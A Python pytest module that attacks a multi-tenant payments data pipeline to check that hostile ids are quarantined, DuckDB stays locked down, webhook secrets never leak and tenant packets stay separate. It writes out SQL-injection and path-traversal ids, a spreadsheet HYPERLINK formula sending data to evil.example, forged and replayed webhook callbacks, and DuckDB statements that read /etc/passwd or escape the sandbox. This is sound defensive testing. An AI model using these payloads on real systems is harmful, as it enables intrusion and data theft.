"""Security: hostile ids never become SQL or paths, DuckDB is sealed, secrets never leak, tenants never mix.

One attack landing is built from the sample: SQL-injection and path-traversal ids in every
source (callbacks, intents, deliveries, settlements, the ledger database), callbacks that
push a canary webhook secret through every failure path (bad signature, forgery with
another tenant's id, replay, unknown tenant, malformed header) and one success path, and
a canary ``scope`` on tenant t_beta's intents. It runs twice: once as the real `zentra run`
subprocess (stdout/stderr captured) and once in-process through the same Dagster job
(``execute_in_process``) so every Dagster event and log record can be scanned.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import json
import logging
import shutil
import sqlite3
import zipfile
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from tests.helpers import hostile
from tests.reliability._support import fresh_home, run_cli, run_measured
from zentra_pipelines.adapters.config import load_webhook_keys
from zentra_pipelines.adapters.warehouse import Warehouse
from zentra_pipelines.domain.webhooks import hmac_pads
from zentra_pipelines.ingest import archive_landing, verify_new_callbacks

CANARY_KEY = hashlib.sha256(b"zentra reliability canary 7f3a").digest()
CANARY_B64 = base64.b64encode(CANARY_KEY).decode()
CANARY = "whsec_" + CANARY_B64
CANARY_SCOPE = "canary_scope_7f3a"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
INJECTION = hostile.SQL_INJECTION
URL_PASSWORD = "UrlPassw0rd-canary"  # noqa: S105 - planted, to be found nowhere but the raw landing archive


def canary_needles() -> dict[str, bytes]:
    """Every spelling of the canary secret an implementation could leak."""
    ipad, opad = hmac_pads(CANARY_KEY)
    return {
        "base64 text": CANARY_B64.encode(), "whsec string": CANARY.encode(), "raw key": CANARY_KEY,
        "key hex": CANARY_KEY.hex().encode(), "key base64url": base64.urlsafe_b64encode(CANARY_KEY).rstrip(b"="),
        "hmac ipad": ipad, "hmac opad": opad, "ipad hex": ipad.hex().encode(), "opad hex": opad.hex().encode(),
    }


def leaks(data: bytes | str, where: str) -> list[str]:
    blob = data.encode("utf-8", "surrogateescape") if isinstance(data, str) else bytes(data)
    return [f"{name} in {where}" for name, needle in canary_needles().items() if needle in blob]


def build_attack(sample, root: Path) -> dict:
    landing = root / "landing"
    shutil.copytree(sample.landing, landing)
    secrets = json.loads(sample.secrets.read_text())
    secrets["t_alpha"]["acme_pay"].append(CANARY)  # mid-rotation: the canary is a live secret of t_alpha
    secrets_path = root / "secrets.json"
    secrets_path.write_text(json.dumps(secrets))

    # canary scope on every t_beta intent (byte-level, so planted duplicate-key lines stay as they are)
    for path in (landing / "intents").glob("*.jsonl"):
        lines = path.read_bytes().split(b"\n")
        path.write_bytes(b"\n".join(
            line.replace(b'"scope": "workspace_scope"', f'"scope": "{CANARY_SCOPE}"'.encode())
            if b'"tenant_id": "t_beta"' in line else line for line in lines))

    alpha = hostile.CallbackSigner("t_alpha", "acme_pay", CANARY)
    beta_provider = next(iter(secrets["t_beta"]))
    ts_ok = int(alpha.received_at.timestamp()) - 1
    callbacks = {
        "bad_signature": (alpha.line(alpha.body(1), signature="v1," + base64.b64encode(b"\0" * 32).decode()),
                          "signature_mismatch"),
        "forgery_other_tenant": (hostile.CallbackSigner("t_beta", beta_provider, CANARY).line(
            hostile.CallbackSigner("t_beta", beta_provider, CANARY).body(2)), "signature_mismatch"),
        "replay": (alpha.line(alpha.body(3), ts=ts_ok - 600), "replay_window"),
        "future": (alpha.line(alpha.body(4), ts=ts_ok + 600), "replay_window"),
        "unknown_tenant": (hostile.CallbackSigner("t_canary_nobody", "acme_pay", CANARY).line(
            hostile.CallbackSigner("t_canary_nobody", "acme_pay", CANARY).body(5)), "unknown_tenant"),
        "malformed_header": (alpha.line(alpha.body(6), signature="v1"), "signature_malformed"),
        "signed_injection_event_id": (alpha.line(alpha.body(7, event_id=INJECTION)), "invalid_identifier"),
        "signed_injection_intent_id": (alpha.line(alpha.body(8, intent_id=INJECTION)), "invalid_identifier"),
        "injection_tenant": (hostile.CallbackSigner(INJECTION, "acme_pay", CANARY).line(
            hostile.CallbackSigner(INJECTION, "acme_pay", CANARY).body(9)), "invalid_identifier"),
        "traversal_tenant": (hostile.CallbackSigner("../../etc", "acme_pay", CANARY).line(
            hostile.CallbackSigner("../../etc", "acme_pay", CANARY).body(10)), "invalid_identifier"),
        "valid_with_canary": (alpha.line(alpha.body(11)), None),
    }
    intents = {
        "intent_id": (hostile.jline(hostile.intent(1, intent_id=INJECTION)), "invalid_identifier"),
        "tenant_id": (hostile.jline(hostile.intent(2, INJECTION)), "invalid_identifier"),
        "scope": (hostile.jline(hostile.intent(3, scope=INJECTION)), "invalid_identifier"),
        "traversal": (hostile.jline(hostile.intent(4, "../../etc")), "invalid_identifier"),
    }
    deliveries = {
        "delivery_id": (hostile.jline(hostile.delivery(1, delivery_id=INJECTION)), "invalid_identifier"),
        "tenant_id": (hostile.jline(hostile.delivery(2, "../x")), "invalid_identifier"),
        # free text from the tenant's endpoint, accepted as data: it must not become a spreadsheet formula
        "formula_error": (hostile.jline(hostile.delivery(3, status_code=500, error=FORMULA)), None),
        # a password in the endpoint URL, quoted again in the error text: accepted, masked
        "endpoint_credentials": (hostile.jline(hostile.delivery(
            4, endpoint=f"https://ops:{URL_PASSWORD}@hooks.t_alpha.example/zentra", status_code=500,
            error=f"POST https://ops:{URL_PASSWORD}@hooks.t_alpha.example/zentra: 500")), None),
    }
    settlements = {
        "provider_ref": (hostile.settlement(1, provider_ref="x'; DROP TABLE settlements; --"), "invalid_identifier"),
        "tenant_id": (hostile.settlement(2, tenant="..%2f..%2fetc"), "invalid_identifier"),
    }
    files = {"callbacks": ("attack.jsonl", callbacks), "intents": ("attack.jsonl", intents),
             "deliveries": ("attack.jsonl", deliveries), "settlements": ("attack.csv", settlements)}
    for source, (name, cases) in files.items():
        head = [hostile.SETTLEMENT_HEADER] if source == "settlements" else []
        (landing / source / name).write_bytes(b"".join(x + b"\n" for x in head + [c[0] for c in cases.values()]))

    db = root / "source.sqlite"
    src = sqlite3.connect(sample.source_db)
    try:
        accounts = [r[0] for r in src.execute("SELECT account_id FROM accounts WHERE tenant_id = 't_alpha' "
                                               "ORDER BY account_id")]
    finally:
        src.close()
    hostile.write_hostile_ledger(db, sample.source_db, "t_alpha", accounts[0], accounts[1])
    return {"landing": landing, "secrets": secrets_path, "db": db, "files": files}


@pytest.fixture(scope="module")
def attack(sample, reference, tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("attack")
    built = build_attack(sample, root)
    args = ["run", "--landing", str(built["landing"]), "--source-db", str(built["db"]),
            "--policies", str(sample.policies), "--secrets", str(built["secrets"])]
    cli_home = fresh_home(root, "cli_home", reference["home"])
    rc, out, err, seconds, _ = run_measured("-m", "dagster_project.cli", [*args, "--home", str(cli_home)])

    # the same definitions in-process, every Dagster event and Python log record kept
    from dagster_project import pipeline
    from zentra_pipelines.settings import Settings

    dg_home = fresh_home(root, "dg_home", reference["home"])
    settings = Settings.resolve({"landing": str(built["landing"]), "source_db": str(built["db"]),
                                 "policies": str(sample.policies), "secrets": str(built["secrets"]),
                                 "home": str(dg_home)}, {})
    records: list[logging.LogRecord] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(record)

    keep, root_logger = Keep(level=logging.DEBUG), logging.getLogger()
    old_level = root_logger.level
    root_logger.addHandler(keep)
    root_logger.setLevel(logging.DEBUG)
    buf_out, buf_err = io.StringIO(), io.StringIO()
    try:
        with dg.DagsterInstance.ephemeral() as instance, \
                contextlib.redirect_stdout(buf_out), contextlib.redirect_stderr(buf_err):
            result = pipeline.execute(settings, instance=instance)
            problems = pipeline.failures(result) + list(getattr(result, "notes", []))
            event_text = [str(e) for e in result.all_events]
            event_text += [repr(e.event_specific_data) for e in result.all_events]
            runs = getattr(result, "results", [result])  # one ExecuteInProcessResult per Dagster run
            log_text = [str(rec) for r in runs for rec in instance.all_logs(r.run_id)]
    finally:
        root_logger.removeHandler(keep)
        root_logger.setLevel(old_level)
    return {**built, "rc": rc, "stdout": out, "stderr": err, "seconds": seconds, "cli_home": cli_home,
            "dg_home": dg_home, "dg_success": result.success, "dg_problems": problems, "events": event_text, "event_log": log_text,
            "py_logs": [r.getMessage() + repr(r.args) for r in records],
            "inproc_output": buf_out.getvalue() + buf_err.getvalue()}


def tables_of(home: Path) -> set[str]:
    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
    try:
        return {r[0] for r in con.sql("SELECT table_name FROM duckdb_tables()").fetchall()}
    finally:
        con.close()


# -------------------------------------------------------------- injection ---


def test_injected_ids_are_quarantined_and_every_table_survives(attack, reference):
    assert attack["rc"] == 0, attack["stdout"][-2000:] + attack["stderr"][-2000:]
    assert attack["dg_success"], attack["dg_problems"]
    home = attack["cli_home"]
    assert tables_of(home) == tables_of(reference["home"])  # nothing dropped, nothing created
    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
    try:
        assert con.sql("SELECT count(*) FROM ingest_accounting WHERE NOT balanced").fetchall() == [(0,)]
        assert con.sql("SELECT count(*) FROM intents").fetchall()[0][0] > 0
        for source, (name, cases) in attack["files"].items():
            table = f"{source}_quarantine"
            got = dict(con.sql(f'SELECT line_no, error_code FROM "{table}" WHERE source_file = $f',
                               params={"f": f"{source}/{name}"}).fetchall())
            first = 2 if source == "settlements" else 1
            for offset, (label, (_, want)) in enumerate(cases.items()):
                assert got.get(first + offset) == want, (source, label, got.get(first + offset))
        hostile_ids = con.sql("SELECT count(*) FROM ledger_postings_quarantine "
                              "WHERE posting_id LIKE '%DROP TABLE%'").fetchall()[0][0]
        assert hostile_ids == 2
    finally:
        con.close()
    # no path was built from a hostile id: only configured tenants under packets/, nothing outside home
    assert {p.name for p in (home / "packets").iterdir()} <= {"t_alpha", "t_beta", "t_gamma"}
    assert not any(".." in p.name or "DROP" in p.name for p in home.rglob("*"))


def _allowed(con: duckdb.DuckDBPyConnection, statements: list[str]) -> list[str]:
    allowed = []
    for sql in statements:
        try:
            con.execute(sql).fetchall()
            allowed.append(sql)
        except duckdb.Error:
            pass
    return allowed


def test_duckdb_is_locked_down_during_runs(attack, tmp_path):
    home = attack["cli_home"]
    escape = tmp_path / "escape"
    statements = [
        "SELECT * FROM read_text('/etc/passwd')",
        "SELECT * FROM read_blob('/etc/hostname')",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM glob('/etc/*')",
        f"COPY (SELECT 1) TO '{escape}.csv'",
        "COPY (SELECT 1) TO '/tmp/x.csv'",
        f"COPY (SELECT 1) TO '{home}/x.csv'",
        f"COPY (SELECT 1) TO '{home}/.duckdb_tmp/../../escape.csv'",
        f"ATTACH '{escape}.db'",
        "ATTACH '/tmp/y.db'",
        f"EXPORT DATABASE '{escape}_export'",
        "INSTALL httpfs",
        "LOAD httpfs",
        "SET enable_external_access = true",
        "RESET enable_external_access",
        "SET lock_configuration = false",
        "SET allowed_directories = ['/']",
        "SET allowed_paths = ['/etc/passwd']",
        "SET temp_directory = '/tmp'",
        "SELECT 1; COPY (SELECT 1) TO '/tmp/x.csv'",  # stacked statements gain nothing either
    ]
    with Warehouse(home).connect() as con, Warehouse.reader(con) as reader:
        assert _allowed(con, statements) == []
        assert _allowed(reader, statements) == []  # a helper thread's connection is as locked
    assert not list(tmp_path.glob("escape*")) and not (home / "x.csv").exists()
    assert not (home.parent / "escape.csv").exists()


# ---------------------------------------------------------------- secrets ---


def test_canary_secret_appears_in_no_log_line(attack):
    found = leaks(attack["stdout"], "zentra run stdout") + leaks(attack["stderr"], "zentra run stderr")
    found += leaks(attack["inproc_output"], "in-process stdout/stderr")
    found += [x for i, line in enumerate(attack["py_logs"]) for x in leaks(line, f"python log record {i}")]
    assert found == []
    assert "DEVELOPMENT" in attack["stderr"]  # the capture works: the loud dev-key warning is there


def test_canary_secret_appears_in_no_dagster_event(attack):
    assert attack["events"] and attack["event_log"]
    found = [x for i, text in enumerate(attack["events"]) for x in leaks(text, f"dagster event {i}")]
    found += [x for i, text in enumerate(attack["event_log"]) for x in leaks(text, f"event log entry {i}")]
    assert found == []


@pytest.mark.parametrize("which", ["cli_home", "dg_home"])
def test_canary_secret_appears_in_no_table_and_no_warehouse_byte(attack, which):
    home = attack[which]
    found = []
    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
    try:
        columns = con.sql("SELECT table_name, column_name, data_type FROM duckdb_columns() "
                          "WHERE schema_name = 'main'").fetchall()
        scanned = 0
        for table, column, dtype in columns:
            expr = f'"{column}"' if dtype in ("VARCHAR", "BLOB") else f'CAST("{column}" AS VARCHAR)'
            for (value,) in con.sql(f'SELECT {expr} FROM "{table}" WHERE "{column}" IS NOT NULL').fetchall():
                scanned += 1
                found += leaks(value, f"{table}.{column}")
    finally:
        con.close()
    assert scanned > 1000
    found += leaks((home / "warehouse.duckdb").read_bytes(), "warehouse.duckdb file bytes")
    assert found == []


@pytest.mark.parametrize("which", ["cli_home", "dg_home"])
def test_canary_secret_appears_in_no_packet_byte(attack, which):
    found, members = [], 0
    for packet in sorted((attack[which] / "packets").rglob("*.zip")):
        found += leaks(packet.read_bytes(), str(packet))
        with zipfile.ZipFile(packet) as zf:
            for name in zf.namelist():
                members += 1
                found += leaks(zf.read(name), f"{packet}:{name}")
    assert members > 0 and found == []


def test_canary_in_a_broken_secrets_file_is_not_echoed(sample, tmp_path):
    cases = {
        "bad base64": {"t_alpha": {"acme_pay": [CANARY + "!*"]}},
        "no prefix": {"t_alpha": {"acme_pay": [CANARY_B64]}},
        "not a string": {"t_alpha": {"acme_pay": [{"secret": CANARY}]}},
        # a secret pasted where a name belongs: the error names the place, not the key
        "secret as provider": {"t_alpha": {CANARY: [CANARY]}},
        "secret as tenant": {CANARY: {"acme_pay": [CANARY]}},
        "identifier-shaped secret as provider": {"t_alpha": {"whsec_canary7f3aXYZ": "whsec_canary7f3aXYZ"}},
    }
    for n, (label, secrets) in enumerate(cases.items()):
        path = tmp_path / f"secrets-{n}.json"
        path.write_text(json.dumps(secrets))
        proc = run_cli(sample.run_args(tmp_path / "home", secrets=path), timeout=120)
        assert proc.returncode == 2, (label, proc.stderr)
        assert leaks(proc.stdout + proc.stderr, label) == [], (label, proc.stderr)
        assert "canary7f3aXYZ" not in proc.stdout + proc.stderr, (label, proc.stderr)


def test_database_password_is_not_echoed(sample, tmp_path):
    password = "canarypw7f3aXYZ"
    proc = run_cli(["run", "--landing", str(sample.landing), "--source-db",
                    f"postgresql://zentra:{password}@127.0.0.1:9/zentra", "--policies", str(sample.policies),
                    "--secrets", str(sample.secrets), "--home", str(tmp_path / "home")], timeout=300)
    assert proc.returncode != 0
    assert password not in proc.stdout + proc.stderr
    if (tmp_path / "home" / "warehouse.duckdb").exists():
        assert password.encode() not in (tmp_path / "home" / "warehouse.duckdb").read_bytes()


# ------------------------------------------------------------- isolation ---


def test_a_password_in_an_endpoint_url_is_masked_everywhere_but_the_raw_archive(attack):
    needle = URL_PASSWORD.encode()
    found = [name for name in ("stdout", "stderr", "inproc_output") if needle in attack[name].encode()]
    found += [f"event {i}" for i, text in enumerate(attack["events"] + attack["event_log"]) if URL_PASSWORD in text]
    for packet in sorted((attack["cli_home"] / "packets").rglob("*.zip")):
        with zipfile.ZipFile(packet) as zf:
            found += [f"{packet.name}:{n}" for n in zf.namelist() if needle in zf.read(n)]
    con = duckdb.connect(str(attack["cli_home"] / "warehouse.duckdb"), read_only=True)
    try:
        columns = con.sql("SELECT table_name, column_name FROM duckdb_columns() WHERE schema_name = 'main' "
                          "AND data_type = 'VARCHAR' AND table_name <> 'landing_lines'").fetchall()
        for table, column in columns:
            hits = con.sql(f'SELECT count(*) FROM "{table}" WHERE contains("{column}", $n)',
                           params={"n": URL_PASSWORD}).fetchall()[0][0]
            found += [f"{table}.{column}"] * (hits > 0)
        masked = con.sql("SELECT endpoint, error FROM deliveries WHERE delivery_id = 'dlv_hostile_000004'").fetchall()
    finally:
        con.close()
    assert found == []
    assert masked == [("https://***@hooks.t_alpha.example/zentra",
                       "POST https://***@hooks.t_alpha.example/zentra: 500")]


def test_a_tenant_packet_never_holds_another_tenants_rows(attack):
    home = attack["cli_home"]
    seen: dict[str, int] = {}
    for packet in sorted((home / "packets").rglob("*.zip")):
        tenant = packet.parent.parent.name
        with zipfile.ZipFile(packet) as zf:
            hits = sum(CANARY_SCOPE.encode() in zf.read(n) for n in zf.namelist())
            others = [t for t in ("t_alpha", "t_beta", "t_gamma") if t != tenant
                      and any(t.encode() in zf.read(n) for n in zf.namelist())]
        seen[tenant] = seen.get(tenant, 0) + hits
        assert others == [], f"{packet} mentions {others}"
    assert seen.get("t_beta", 0) > 0, "the canary scope must reach t_beta's packets"
    assert seen.get("t_alpha", 0) == 0 and seen.get("t_gamma", 0) == 0, seen


def test_packet_csv_cells_cannot_become_spreadsheet_formulas(attack):
    import csv

    cells = []
    for packet in sorted((attack["cli_home"] / "packets" / "t_alpha").rglob("*.zip")):
        with zipfile.ZipFile(packet) as zf:
            for name in zf.namelist():
                if name.endswith(".csv"):
                    rows = csv.reader(io.StringIO(zf.read(name).decode("utf-8")))
                    cells += [(f"{packet.name}:{name}", c) for row in rows for c in row if "HYPERLINK" in c]
    assert cells, "the planted delivery error must reach a t_alpha packet CSV"
    assert [c for c in cells if c[1][:1] in ("=", "+", "-", "@", "\t", "\r")] == []


# ------------------------------------------------- verification integrity ---


def test_signature_verdict_never_borrowed_from_another_version_of_a_file(sample, tmp_path):
    """Two versions of one file name pending together (a run stopped after landing_archive, then the
    file grew or was rewritten): each line is judged on its own signature. Regression test: the
    per-line signature result used to be joined back on (source_file, line_no), so a forged line
    borrowed the valid signature of the line with the same number in the other version."""
    secrets = json.loads(sample.secrets.read_text())
    alpha = hostile.CallbackSigner("t_alpha", "acme_pay", secrets["t_alpha"]["acme_pay"][0])
    attacker = hostile.CallbackSigner("t_alpha", "acme_pay", "whsec_" + base64.b64encode(b"attacker" * 4).decode())
    good = alpha.line(alpha.body(1))
    forged = attacker.line(attacker.body(2, amount_minor=99_999_999))
    folder = tmp_path / "landing" / "callbacks"
    folder.mkdir(parents=True)
    (folder / "today.jsonl").write_bytes(good + b"\n")
    home = tmp_path / "home"
    with Warehouse(home).connect() as con:
        archive_landing(con, tmp_path / "landing")  # the run stops here (crash, failed step, archive-only run)
    (folder / "today.jsonl").write_bytes(forged + b"\n" + good + b"\n")  # the file changes under its name
    with Warehouse(home).connect() as con:
        archive_landing(con, tmp_path / "landing")
        verify_new_callbacks(con, load_webhook_keys(sample.secrets))
        verdicts = dict(con.sql("SELECT event_id_or_line, code FROM (SELECT coalesce(event_id, "
                                "file_sha256 || ':' || line_no) AS event_id_or_line, error_code AS code "
                                "FROM callback_checked)").fetchall())
        rows = con.sql("SELECT count(*) FROM callback_checked").fetchall()[0][0]
        lines = con.sql("SELECT count(*) FROM landing_lines").fetchall()[0][0]
    assert rows == lines == 3
    assert "evt_hostile_000002" not in verdicts, "a forged callback was accepted"
